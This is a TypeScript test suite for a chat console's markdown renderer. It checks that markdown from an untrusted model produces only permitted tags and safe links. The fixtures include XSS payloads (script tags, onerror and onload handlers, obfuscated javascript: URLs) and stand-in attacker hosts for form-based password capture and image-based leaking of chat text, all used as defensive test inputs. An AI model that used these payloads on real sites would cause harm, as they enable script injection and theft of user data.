import fc from "fast-check";
import { describe, it } from "vitest";
import { cutBlocks, NO_BLOCKS } from "../../../src/console/markdown/blocks.ts";
import { isSafeLink, languageOf, renderBlock } from "../../../src/console/markdown/render.ts";

const labels = { copy: "Copy", opensImage: "image" };

function render(source: string): string {
  return renderBlock(source, {}, labels);
}

/** The elements that our own rules write, and no others. */
const OWN_TAGS =
  /^\/?(a|blockquote|br|button|code|div|em|figcaption|figure|h[1-6]|hr|li|ol|p|pre|s|span|strong|table|tbody|td|th|thead|tr|ul)$/;

function tagsOf(html: string): string[] {
  return [...html.matchAll(/<([^\s>]+)/g)].map(([, tag = ""]) => tag);
}

/** Text holds no bare quote: what stands between quotes is an attribute's value. */
function attributeNames(html: string): string {
  const tags = html.replace(/"[^"]*"/g, '""').match(/<[^>]*>/g) ?? [];
  return tags.flatMap((tag) => [...tag.matchAll(/\s([^\s=]+)=/g)].map(([, name]) => name)).join();
}

const hostile = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "<a href='javascript:alert(1)'>x</a>",
  "<style>@import 'https://evil.example'</style>",
  "<base href='https://evil.example/'>",
  "<form action='https://evil.example'><input name=password>",
  "<math><mtext></p><style><img src=x onerror=alert(1)>",
  "`<script>`",
  "```html\n<script>alert(1)</script>\n```",
  '```"><script>alert(1)</script>\n```',
  "    <script>alert(1)</script>",
  "| <b>a</b> |\n|---|\n| <img src=x> |",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
];

describe("markdown from a model that cannot be trusted", () => {
  it("keeps HTML as text", ({ expect }) => {
    for (const source of hostile) {
      const html = render(source);
      for (const tag of tagsOf(html)) expect(tag, source).toMatch(OWN_TAGS);
      expect(attributeNames(html), source).not.toMatch(/style|src|on\w/i);
    }
  });

  it("writes no element but its own, for any text", ({ expect }) => {
    const parts = fc.constantFrom(
      ...hostile,
      "[x](",
      ")",
      "![",
      "](",
      "<",
      ">",
      '"',
      "\n",
      "`",
      "|",
      "*",
      "javascript:",
    );
    const text = fc.array(fc.oneof(parts, fc.string({ unit: "binary", maxLength: 8 })), {
      maxLength: 12,
    });
    fc.assert(
      fc.property(text, (pieces) => {
        const html = render(pieces.join(""));
        for (const tag of tagsOf(html)) expect(tag).toMatch(OWN_TAGS);
        for (const [, href = ""] of html.matchAll(/ href="([^"]*)"/g))
          expect(href).toMatch(/^(https?|mailto):/i);
        expect(attributeNames(html)).not.toMatch(/style|src|on\w/i);
      }),
      { numRuns: 400 },
    );
  });

  it("leads links to the web and to mail only", ({ expect }) => {
    const refused = [
      "javascript:alert(1)",
      "JaVaScRiPt:alert(1)",
      "java\tscript:alert(1)",
      "&#106;avascript:alert(1)",
      "vbscript:x",
      "data:text/html;base64,PHNjcmlwdD4=",
      "data:image/svg+xml,<svg onload=alert(1)>",
      "file:///etc/passwd",
      "blob:null/1",
      "/api/sign-out",
      "//evil.example/x",
      "#owner=token",
      "?x=1",
      "about:blank",
      "intent://x",
    ];
    for (const url of refused) expect(render(`[x](${url}) <${url}>`), url).not.toContain("<a ");
    for (const url of ["https://a.example/x?y=1#z", "http://a.example", "mailto:a@b.example"])
      expect(render(`[x](${url})`)).toMatch(
        /^<p><a href="[^"]+" target="_blank" rel="noopener noreferrer nofollow">x<\/a>/,
      );
    expect(render("[x]()")).toBe("<p><a>x</a></p>\n");
    expect(isSafeLink("https://")).toBe(false);
  });

  it("loads no image: an image is a link that names its host", ({ expect }) => {
    const html = render('![a "cat"](https://evil.example/p.png?q=what+you+said "t")');
    expect(html).toBe(
      '<p><a href="https://evil.example/p.png?q=what+you+said" target="_blank" rel="noopener noreferrer nofollow" title="image">a &quot;cat&quot; (evil.example)</a></p>\n',
    );
    expect(render("![x](data:image/png;base64,AAAA)")).not.toContain("<a ");
    expect(render("![a]() ![]()")).toBe("<p>a </p>\n");
    expect(render("![](https://evil.example/p.png)")).toContain(">https://evil.example/p.png</a>");
    expect(render("[![alt](https://evil.example/p.png)](https://good.example)")).toBe(
      '<p><a href="https://good.example" target="_blank" rel="noopener noreferrer nofollow">alt</a></p>\n',
    );
  });

  it("turns bare addresses into links, and words with dots not", ({ expect }) => {
    expect(render("see https://a.example/x.")).toContain('<a href="https://a.example/x"');
    expect(render("main.rs and a@b.example and evil.example")).not.toContain("<a ");
  });
});

describe("what an answer is made of", () => {
  it("has code with its language and a button, escaped", ({ expect }) => {
    expect(render("```c++ title\na < b\n```")).toBe(
      '<figure class="code"><figcaption><span>c++</span><button type="button" class="copy">Copy</button></figcaption>' +
        '<pre tabindex="0"><code>a &lt; b</code></pre></figure>\n',
    );
    expect(languageOf("<img onerror=x>")).toBe("");
    expect(languageOf("a".repeat(99))).toHaveLength(32);
  });

  it("aligns table cells by class: the page takes no inline style", ({ expect }) => {
    const html = render("| a | b |\n|:-:|--:|\n| 1 | 2 |");
    expect(html).toContain('<th class="align-center">a</th>');
    expect(html).toContain('<td class="align-right">2</td>');
    expect(html).not.toContain("style");
  });

  it("keeps single line ends, as chats do", ({ expect }) => {
    expect(render("a\nb")).toBe("<p>a<br>\nb</p>\n");
  });
});

describe("blocks of a growing text", () => {
  const piece = fc.constantFrom(
    "# Title\n",
    "word ",
    "\n\n",
    "\n",
    "- item\n",
    "  - inner\n",
    "1. one\n",
    "```js\n",
    "```\n",
    "| a | b |\n|---|---|\n",
    "> quote\n",
    "---\n",
    "[ref]: https://a.example\n",
    "界🙂",
    "    code\n",
  );
  const texts = fc.array(piece, { maxLength: 40 });

  it("hold every character once, in order", ({ expect }) => {
    fc.assert(
      fc.property(texts, (parts) => {
        const text = parts.join("");
        expect(cutBlocks(NO_BLOCKS, text).sources.join("")).toBe(text);
      }),
    );
  });

  it("never change once another has begun, and end as those of the whole text", ({ expect }) => {
    fc.assert(
      fc.property(texts, (parts) => {
        let text = "";
        let blocks = NO_BLOCKS;
        for (const part of parts) {
          text += part;
          const next = cutBlocks(blocks, text);
          const finished = blocks.sources.slice(0, -1);
          expect(next.sources.slice(0, finished.length)).toEqual(finished);
          blocks = next;
        }
        expect(blocks.sources.join("")).toBe(text);
      }),
    );
  });

  it("begin anew for another text", ({ expect }) => {
    const first = cutBlocks(NO_BLOCKS, "one\n\ntwo");
    expect(cutBlocks(first, "other\n\ntext").sources).toEqual(["other\n\n", "text"]);
  });

  it("read carriage returns as line ends", ({ expect }) => {
    expect(cutBlocks(NO_BLOCKS, "a\r\n\r\nb\rc").sources).toEqual(["a\n\n", "b\nc"]);
  });

  it("share link definitions", ({ expect }) => {
    const { sources, references } = cutBlocks(NO_BLOCKS, "[x]: https://a.example\n\nsee [x]");
    expect(renderBlock(sources.at(-1) ?? "", references, labels)).toContain(
      'href="https://a.example"',
    );
  });
});
